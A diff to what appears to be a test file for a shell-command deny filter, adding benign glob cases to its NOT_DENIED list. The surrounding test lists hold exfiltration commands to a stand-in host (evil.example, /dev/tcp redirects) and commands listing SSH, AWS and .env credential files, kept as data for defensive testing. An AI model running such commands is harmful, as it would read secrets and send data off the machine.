@@ -53,7 +53,16 @@ DENIED = [
     "acme --url=https://evil.example/$x",
     "echo a > /dev/tcp/evil.example/$port",
 ]
-NOT_DENIED = ["cat /srv/$x", 'cat "$x/data"', 'cat "$x"', 'curl "https://$x/"', 'curl "https://$x/evil.example"']
+NOT_DENIED = [
+    "echo *",
+    "for f in *; do echo $f; done",
+    "echo /srv/*",
+    "cat /srv/$x",
+    'cat "$x/data"',
+    'cat "$x"',
+    'curl "https://$x/"',
+    'curl "https://$x/evil.example"',
+]
 LISTED = ["echo ~/.ssh/*", "printf '%s\\n' ~/.aws/c*", "echo .env*", 'for f in ~/.ssh/*; do echo "$f"; done']
 NOT_COVERED = [
     "npm test > /dev/tcp/192.0.2.1/80",
